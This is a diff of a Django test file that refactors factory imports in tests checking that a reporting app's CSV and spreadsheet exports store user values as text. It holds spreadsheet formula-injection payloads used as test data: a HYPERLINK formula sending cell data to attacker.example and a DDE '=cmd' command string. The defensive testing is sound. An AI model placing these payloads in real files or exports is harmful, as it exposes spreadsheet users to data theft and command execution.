@@ -24,10 +24,16 @@ from reports.imports.resources import ActualResource
 from reports.models import Actual
 from targets.models import Indicator, Target
 from targets.resources import TargetResource
-from tests.factories import unit_by_code
-from tests.factories_imports import LONG_VI, actual, csv_bytes, xlsx_bytes
-from tests.factories_imports import hanoi_plan as import_plan
-from tests.factories_progress import disu_plan, hanoi_plan
+from tests.factories import (
+    LONG_VI,
+    actual_make,
+    csv_bytes,
+    disu_plan,
+    hanoi_2024_two_districts,
+    hanoi_2024_with_results,
+    unit_by_code,
+    xlsx_bytes,
+)
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'
 EXPORT = reverse("reports:export")
@@ -64,8 +70,8 @@ def test_reading_back_is_the_exact_inverse_of_writing(text):
 
 @pytest.fixture
 def poisoned_note(db):
-    import_plan()
-    return actual("graduates_attracted", "001", "2024", "650", note=HYPERLINK)
+    hanoi_2024_two_districts()
+    return actual_make("graduates_attracted", "001", "2024", "650", note=HYPERLINK)
 
 
 def _csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
@@ -158,7 +164,7 @@ def test_a_file_with_a_nul_character_is_refused_with_its_line():
 
 @pytest.mark.django_db
 def test_the_progress_spreadsheet_writes_a_plan_title_and_a_wording_as_text(client, make_user):
-    plan = hanoi_plan()
+    plan = hanoi_2024_with_results()
     plan.title = HYPERLINK
     plan.save()
     Target.objects.filter(plan=plan, unit__code="001").update(wording="=1+1")
@@ -186,7 +192,7 @@ def test_the_official_spreadsheet_writes_an_indicator_name_as_text(client, make_
 
 @pytest.mark.django_db
 def test_a_charts_csv_writes_a_unit_name_as_data(client, make_user):
-    hanoi_plan()
+    hanoi_2024_with_results()
     unit = unit_by_code("001")
     unit.name = "=cmd|' /C calc'!A0"
     unit.save()
@@ -200,7 +206,7 @@ def test_a_charts_csv_writes_a_unit_name_as_data(client, make_user):
 
 @pytest.mark.django_db
 def test_the_progress_command_keeps_negative_numbers_as_numbers():
-    hanoi_plan()
+    hanoi_2024_with_results()
     out = io.StringIO()
     call_command("progress", plan="hn-2024", year=2024, format="csv", stdout=out)
     rows = list(csv.reader(io.StringIO(out.getvalue())))
@@ -221,7 +227,7 @@ def test_the_admins_export_of_values_writes_a_note_as_data(make_user, poisoned_n
 
 @pytest.mark.django_db
 def test_the_admins_export_of_targets_writes_a_wording_as_data():
-    plan = import_plan()
+    plan = hanoi_2024_two_districts()
     Target.objects.filter(plan=plan).update(wording="+1 so với 2023")
     dataset = TargetResource().export()
     assert {row["wording"] for row in dataset.dict} == {"'+1 so với 2023"}
